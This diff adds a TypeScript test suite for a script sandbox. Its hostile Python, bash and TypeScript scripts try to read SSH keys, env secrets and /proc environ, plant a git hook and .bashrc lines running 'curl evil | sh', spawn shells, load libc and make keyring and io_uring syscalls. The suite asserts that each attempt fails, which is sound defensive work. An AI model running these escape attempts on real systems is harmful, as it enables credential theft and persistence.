@@ -1,0 +1,507 @@
+/**
+ * The escape suite, files and secrets: hostile scripts in Python, bash and TypeScript read keys
+ * and other projects, write outside their outputs, read env secrets, modify the cache and the
+ * repository, use Deno's closed APIs and the kernel surfaces the seccomp filter closes, and the
+ * module graph; the granted cases still work. Each attack asserts that the attempt failed AND that
+ * the host is unchanged (see _escape.ts).
+ */
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { PermissionError, ValidationError } from "../../src/errors.ts";
+import { denoDirKey } from "../../src/runtimes/deno.ts";
+import {
+  attack,
+  CACHE,
+  capibaraFor,
+  escapeSuite,
+  exists,
+  HOME,
+  neverRan,
+  OTHER,
+  OTHER_SECRET,
+  PROJECT,
+  py,
+  ranMarker,
+  ROOT,
+  sh,
+  SSH_KEY,
+  ts,
+} from "./_escape.ts";
+
+// --- files -----------------------------------------------------------------------------------
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`detail = open(${JSON.stringify(SSH_KEY)}).read()\nbreached = "hunter2" in detail`),
+    ],
+    ["bash", sh(`detail=$(cat ${SSH_KEY} 2>&1); case "$detail" in *hunter2*) breached=1;; esac`)],
+    [
+      "typescript",
+      ts(
+        `detail = Deno.readTextFileSync(${
+          JSON.stringify(SSH_KEY)
+        }); breached = detail.includes("hunter2");`,
+      ),
+    ],
+  ] as const
+) {
+  attack({ name: "read ~/.ssh/id_rsa of the real HOME", language, script });
+}
+attack({
+  name: "read ~/.ssh via $HOME and expanduser",
+  language: "python",
+  script: py(`p = os.path.expanduser("~/.ssh/id_rsa")
+detail = p
+breached = os.path.exists(p) and "hunter2" in open(p).read()`),
+});
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(
+        `breached = ${JSON.stringify(OTHER_SECRET)} in open(${
+          JSON.stringify(join(OTHER, "secret.txt"))
+        }).read()`,
+      ),
+    ],
+    ["bash", sh(`grep -q "secret" ${join(OTHER, "secret.txt")} 2>/dev/null && breached=1`)],
+    [
+      "typescript",
+      ts(
+        `breached = Deno.readTextFileSync(${
+          JSON.stringify(join(OTHER, "secret.txt"))
+        }).includes("secret");`,
+      ),
+    ],
+  ] as const
+) {
+  attack({ name: "read another project's file", language, script });
+}
+
+const PLANTED = join(OTHER, "planted.txt");
+const noPlant = async () =>
+  assert.equal(await exists(PLANTED), false, "a file was planted outside");
+for (
+  const [language, script] of [
+    ["python", py(`open(${JSON.stringify(PLANTED)}, "w").write("x")\nbreached = True`)],
+    ["bash", sh(`echo x > ${PLANTED} 2>/dev/null && breached=1`)],
+    ["typescript", ts(`Deno.writeTextFileSync(${JSON.stringify(PLANTED)}, "x"); breached = true;`)],
+  ] as const
+) {
+  attack({
+    name: "write outside the outputs",
+    language,
+    script,
+    context: { output: "out/result.txt" },
+    hostUnchanged: noPlant,
+  });
+}
+attack({
+  name: "write into the workdir when only out/ is writable",
+  language: "python",
+  context: { output: "out/result.txt" },
+  script: py(`open("sneaky.txt", "w").write("x")\nbreached = True`),
+  hostUnchanged: async () => assert.equal(await exists(join(PROJECT, "sneaky.txt")), false),
+});
+
+for (
+  const [name, context] of [
+    ["a ../ context path", { input: "../other-project/secret.txt" }],
+    ["an absolute context path outside", { input: join(OTHER, "secret.txt") }],
+    ["a symlink in the workdir pointing out", { input: "data/link.txt" }],
+    ["a ~ context path", { input: "~/.ssh/id_rsa" }],
+    ["a nested ../ output path", { job: { output: "out/../../other-project/x.txt" } }],
+  ] as const
+) {
+  attack({
+    name: `refused before running: ${name}`,
+    language: "python",
+    context,
+    script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
+    blockedBy: [ValidationError],
+    hostUnchanged: neverRan,
+  });
+}
+attack({
+  name: "report an artifact outside the outputs",
+  language: "python",
+  context: { output: "out/result.txt" },
+  script: py(`artifacts = ["../other-project/secret.txt"]`),
+  blockedBy: [ValidationError],
+});
+
+// --- secrets ---------------------------------------------------------------------------------
+for (
+  const [language, script] of [
+    ["python", py(`detail = os.environ.get("SECRET_TOKEN", "")\nbreached = "sk-live" in detail`)],
+    ["bash", sh(`[ -n "\${SECRET_TOKEN:-}" ] && breached=1`)],
+    ["typescript", ts(`breached = (Deno.env.get("SECRET_TOKEN") ?? "").includes("sk-live");`)],
+  ] as const
+) {
+  attack({ name: "read an env secret that was not granted", language, script });
+}
+attack({
+  name: "read secrets from /proc/1/environ and the parent's environ",
+  language: "python",
+  script: py(`found = ""
+for pid in ["1", str(os.getppid()), "self"]:
+    try:
+        found += open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore")
+    except Exception:
+        pass
+breached = "sk-live" in found`),
+});
+attack({
+  name: "a granted env var is passed",
+  language: "python",
+  needs: { env: ["GRANTED_VAR"] },
+  allow: { env: ["GRANTED_VAR"] },
+  script: py(
+    `detail = os.environ.get("GRANTED_VAR", "") + "|" + os.environ.get("SECRET_TOKEN", "")`,
+  ),
+  granted(o) {
+    assert.equal(o.detail, "granted-value|");
+  },
+});
+attack({
+  name: "a need that was not granted stops the run",
+  language: "python",
+  needs: { env: ["SECRET_TOKEN"] },
+  script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
+  blockedBy: [PermissionError],
+  hostUnchanged: neverRan,
+});
+
+// --- the cache and the repository -------------------------------------------------------------
+const storeHashes = async () => {
+  const out: Record<string, string> = {};
+  for await (const fp of Deno.readDir(join(PROJECT, ".capibara", "scripts"))) {
+    for await (const f of Deno.readDir(join(PROJECT, ".capibara", "scripts", fp.name))) {
+      out[`${fp.name}/${f.name}`] = await Deno.readTextFile(
+        join(PROJECT, ".capibara", "scripts", fp.name, f.name),
+      );
+    }
+  }
+  return out;
+};
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`import glob
+for path in glob.glob(${JSON.stringify(PROJECT)} + "/.capibara/scripts/*/script.py"):
+    try:
+        with open(path, "a") as fh:
+            fh.write("\\n# ow" + "ned\\n")
+        breached = True
+    except OSError as exc:
+        detail = repr(exc)`),
+    ],
+    [
+      "bash",
+      sh(
+        `for f in ${PROJECT}/.capibara/scripts/*/script.sh ${PROJECT}/.capibara/scripts/*/script.py; do echo "# ow""ned" >> "$f" 2>/dev/null && breached=1; done`,
+      ),
+    ],
+  ] as const
+) {
+  attack({
+    name: "modify its own cached script (workdir writable)",
+    language,
+    context: { output: "result.txt" },
+    script,
+    hostUnchanged: async () => {
+      for (const [name, text] of Object.entries(await storeHashes())) {
+        assert.ok(!text.includes("# owned"), `${name} was modified`);
+      }
+    },
+  });
+}
+attack({
+  name: "plant a git hook and change .git/config (workdir writable)",
+  language: "python",
+  context: { output: "result.txt" },
+  script: py(
+    `for path, text in [(".git/hooks/pre-commit", "#!/bin/sh\\ncurl evil"), (".git/config", "[core]\\nfsmonitor = evil")]:
+    try:
+        with open(path, "a") as fh:
+            fh.write(text)
+        breached = True
+    except OSError as exc:
+        detail += repr(exc)`,
+  ),
+  hostUnchanged: async () => {
+    assert.equal(await exists(join(PROJECT, ".git", "hooks", "pre-commit")), false);
+    assert.equal(await Deno.readTextFile(join(PROJECT, ".git", "config")), "[core]\n");
+  },
+});
+attack({
+  name: "plant a shell start-up file in the writable workdir's HOME-like files",
+  language: "bash",
+  context: { output: "result.txt" },
+  script: sh(
+    `echo 'curl evil | sh' >> ${PROJECT}/.bashrc 2>/dev/null && [ -s ${PROJECT}/.bashrc ] && breached=0
+echo 'curl evil | sh' >> ${HOME}/.bashrc 2>/dev/null && breached=1`,
+  ),
+  hostUnchanged: async () => assert.equal(await exists(join(HOME, ".bashrc")), false),
+});
+
+// --- TypeScript: Deno permissions --------------------------------------------------------------
+attack({
+  name: "Deno.Command to run a shell",
+  language: "typescript",
+  script: ts(`const out = new Deno.Command("sh", { args: ["-c", "echo pwned"] }).outputSync();
+breached = new TextDecoder().decode(out.stdout).includes("pwned");`),
+});
+attack({
+  name: "Deno.run (removed API) and a spawn of deno -A",
+  language: "typescript",
+  script: ts(`// deno-lint-ignore no-explicit-any
+const run = (Deno as any).run;
+if (run) { run({ cmd: ["sh", "-c", "true"] }); breached = true; }
+const out = new Deno.Command(Deno.execPath(), { args: ["eval", "console.log('escaped')"] }).outputSync();
+breached = breached || new TextDecoder().decode(out.stdout).includes("escaped");`),
+});
+attack({
+  name: "FFI: Deno.dlopen of libc",
+  language: "typescript",
+  script: ts(`const lib = Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });
+breached = typeof lib.symbols.getpid() === "number";`),
+});
+attack({
+  name: "--allow-all tricks: permission requests and env/sys probes",
+  language: "typescript",
+  script: ts(`const asks = ["run", "ffi", "sys", "env", "net"] as const;
+for (const name of asks) {
+  const status = await Deno.permissions.request({ name } as Deno.PermissionDescriptor);
+  if (status.state === "granted") { breached = true; detail += name + " "; }
+}
+try { Deno.hostname(); breached = true; detail += "sys"; } catch { /* denied */ }`),
+});
+attack({
+  name: "write into .capibara/ through a writable workdir",
+  language: "typescript",
+  context: { output: "result.txt" },
+  script: ts(`for (const e of Deno.readDirSync(${JSON.stringify(PROJECT)} + "/.capibara/scripts")) {
+  try {
+    Deno.writeTextFileSync(${
+    JSON.stringify(PROJECT)
+  } + "/.capibara/scripts/" + e.name + "/script.ts", "// ow" + "ned", { append: true });
+    breached = true;
+  } catch (err) { detail = String(err); }
+}`),
+  hostUnchanged: async () => {
+    for (const [name, text] of Object.entries(await storeHashes())) {
+      assert.ok(!text.includes("// owned"), `${name} was modified`);
+    }
+  },
+});
+
+// --- kernel surfaces the seccomp filter closes -----------------------------------------------
+attack({
+  name: "read the host's session keyring through ctypes reached via __builtins__",
+  language: "python",
+  script: py(
+    `ct = __builtins__.__import__("ctypes") if hasattr(__builtins__, "__import__") else __builtins__["__import__"]("ctypes")
+libc = ct.CDLL(None, use_errno=True)
+nr = 250 if os.uname().machine == "x86_64" else 219
+key = libc.syscall(nr, 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring
+breached = key >= 0
+detail = "keyring %d errno %d" % (key, ct.get_errno())`,
+  ),
+});
+attack({
+  name: "io_uring, userfaultfd and a netlink audit socket",
+  language: "python",
+  script: py(`import ctypes, socket
+libc = ctypes.CDLL(None, use_errno=True)
+x86 = os.uname().machine == "x86_64"
+uring = libc.syscall(425, 1, ctypes.create_string_buffer(120))
+uffd = libc.syscall(323 if x86 else 282, 0)
+try:
+    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).close()
+    audit = True
+except OSError:
+    audit = False
+breached = uring >= 0 or uffd >= 0 or audit
+detail = "io_uring %d userfaultfd %d audit %s" % (uring, uffd, audit)`),
+});
+attack({
+  name: "read the host's session keyring through perl's syscall()",
+  language: "bash",
+  script: sh(
+    `nr=250; [ "$(uname -m)" = x86_64 ] || nr=219
+k=$(perl -e "print syscall($nr, 0, -3, 0)" 2>/dev/null)
+detail="keyring $k"
+case "$k" in ''|-*) ;; *) breached=1 ;; esac`,
+  ),
+});
+
+// --- TypeScript: the module graph, the OS layer and Deno's own state ----------------------------
+const PROJECT_PRIVATE = "project-private-note";
+await Deno.writeTextFile(join(PROJECT, "private.txt"), PROJECT_PRIVATE);
+attack({
+  name: "a static text import of ~/.ssh/id_rsa",
+  language: "typescript",
+  script: `import key from ${JSON.stringify(SSH_KEY)} with { type: "text" };\n` +
+    ts(`detail = key;\nbreached = key.includes("hunter2");`),
+  blockedBy: [PermissionError],
+  leaks: ["hunter2"],
+});
+attack({
+  name: "a relative ../../ import of a project file the context does not name",
+  language: "typescript",
+  // The entry lives in <project>/.capibara/scripts/<fingerprint>/.
+  script: `import note from "../../../private.txt" with { type: "text" };\n` +
+    ts(`detail = note;\nbreached = note.includes(${JSON.stringify(PROJECT_PRIVATE)});`),
+  blockedBy: [PermissionError],
+  leaks: [PROJECT_PRIVATE],
+});
+attack({
+  name: "a literal dynamic import of ~/.ssh/id_rsa as bytes",
+  language: "typescript",
+  script: ts(`const mod = await import(${JSON.stringify(SSH_KEY)}, { with: { type: "bytes" } });
+detail = new TextDecoder().decode(mod.default);
+breached = detail.includes("hunter2");`),
+  blockedBy: [PermissionError],
+  leaks: ["hunter2"],
+});
+
+// A first run (Python, in the OS sandbox) plants symlinks in its output folder; a TypeScript run
+// writing to the same folder follows them: Deno checks the paths as written.
+const LINKED = join(PROJECT, "linked");
+const TS_PLANTED = join(OTHER, "planted-by-typescript.txt");
+attack({
+  name: "follow symlinks an earlier run planted in its output folder",
+  language: "typescript",
+  osLayer: true,
+  context: { output: "linked/result.txt" },
+  before: async () => {
+    // Planted on the host: copy-out no longer lets a run plant a symlink in the project, but a
+    // cloned repository can carry one.
+    await Deno.mkdir(LINKED, { recursive: true });
+    await Deno.symlink(SSH_KEY, join(LINKED, "key"));
+    await Deno.symlink(OTHER, join(LINKED, "other"));
+    assert.ok((await Deno.lstat(join(LINKED, "key"))).isSymlink, "the first run planted nothing");
+  },
+  script: ts(`try {
+  detail = Deno.readTextFileSync("linked/key");
+  breached = detail.includes("hunter2");
+} catch (error) { detail = String(error); }
+Deno.writeTextFileSync("linked/other/planted-by-typescript.txt", "x");
+breached = true;`),
+  leaks: ["hunter2"],
+  hostUnchanged: async () => {
+    assert.equal(await exists(TS_PLANTED), false, "a file was written through the symlink");
+  },
+});
+
+/** Every file below `dir` whose bytes hold `text`. */
+async function filesHolding(dir: string, text: string): Promise<string[]> {
+  const found: string[] = [];
+  const needle = new TextEncoder().encode(text);
+  const holds = (bytes: Uint8Array) => {
+    outer: for (let i = 0; i + needle.length <= bytes.length; i++) {
+      for (let j = 0; j < needle.length; j++) if (bytes[i + j] !== needle[j]) continue outer;
+      return true;
+    }
+    return false;
+  };
+  for await (const entry of Deno.readDir(dir)) {
+    const path = join(dir, entry.name);
+    if (entry.isDirectory) found.push(...await filesHolding(path, text));
+    else if (entry.isFile && holds(await Deno.readFile(path))) found.push(path);
+  }
+  return found;
+}
+
+// Another project's TypeScript entry, run first: its source must leave no trace in the shared
+// cache, and this project's script must not find it there.
+const OTHER_EMIT = "other-project-emitted-source-0xC0FFEE";
+const emptySetDir = join(CACHE, "deno", await denoDirKey([]));
+attack({
+  name: "read another project's emitted script source from the shared DENO_DIR",
+  language: "typescript",
+  before: async () => {
+    const other = join(ROOT, "other-ts-project");
+    await Deno.mkdir(other, { recursive: true });
+    await capibaraFor({
+      name: "the other project's script",
+      language: "typescript",
+      script: ts(`const secret: string = ${JSON.stringify(OTHER_EMIT)};\ndetail = secret;`),
+    }, other).run("escape test: the other project's TypeScript script", {
+      language: "typescript",
+    });
+  },
+  script: ts(`const walk = (dir: string): string[] => {
+  const out: string[] = [];
+  for (const e of Deno.readDirSync(dir)) {
+    const path = dir + "/" + e.name;
+    if (e.isDirectory) out.push(...walk(path));
+    else if (e.isFile) out.push(path);
+  }
+  return out;
+};
+for (const path of walk(${JSON.stringify(emptySetDir)})) {
+  try {
+    const text = new TextDecoder().decode(Deno.readFileSync(path));
+    if (text.includes(${
+    JSON.stringify(OTHER_EMIT.slice(0, 20))
+  })) { breached = true; detail = path; }
+  } catch { /* unreadable */ }
+}`),
+  hostUnchanged: async () => {
+    assert.deepEqual(await filesHolding(join(CACHE, "deno"), OTHER_EMIT), []);
+  },
+});
+const LOCAL_STORAGE = {
+  name: "keep localStorage across runs",
+  language: "typescript" as const,
+  script: ts(`const before = localStorage.getItem("capibara-escape");
+localStorage.setItem("capibara-escape", "kept-from-an-earlier-run");
+breached = before === "kept-from-an-earlier-run";
+detail = String(before);`),
+};
+attack({
+  ...LOCAL_STORAGE,
+  // The same entry ran once before: what it stored must be gone.
+  before: async () => {
+    await capibaraFor(LOCAL_STORAGE).run(`escape test: typescript: ${LOCAL_STORAGE.name}`, {
+      language: "typescript",
+    });
+  },
+  hostUnchanged: async () => {
+    assert.deepEqual(await filesHolding(CACHE, "kept-from-an-earlier-run"), []);
+  },
+});
+
+// --- granted cases still work ------------------------------------------------------------------
+attack({
+  name: "a granted write path works",
+  language: "python",
+  allow: { write: [join(OTHER, "exports")] },
+  script: py(`os.makedirs(${JSON.stringify(join(OTHER, "exports"))}, exist_ok=True)
+open(${JSON.stringify(join(OTHER, "exports", "ok.txt"))}, "w").write("granted")
+detail = "wrote"`),
+  granted(o) {
+    assert.equal(o.detail, "wrote");
+    assert.equal(Deno.readTextFileSync(join(OTHER, "exports", "ok.txt")), "granted");
+  },
+});
+attack({
+  name: "inputs named by the context are readable, outputs writable",
+  language: "typescript",
+  context: { input: "data/in.txt", output: "out/copy.txt" },
+  script: ts(`const text = Deno.readTextFileSync("data/in.txt");
+Deno.mkdirSync("out", { recursive: true });
+Deno.writeTextFileSync("out/copy.txt", text);
+artifacts = ["out/copy.txt"];
+detail = text.trim();`),
+  granted(o) {
+    assert.equal(o.detail, "input data");
+    assert.equal(Deno.readTextFileSync(join(PROJECT, "out", "copy.txt")), "input data\n");
+  },
+});
+
+Deno.test(escapeSuite("files and secrets", { atLeast: { sandbox: 43, noSandbox: 15 } }));
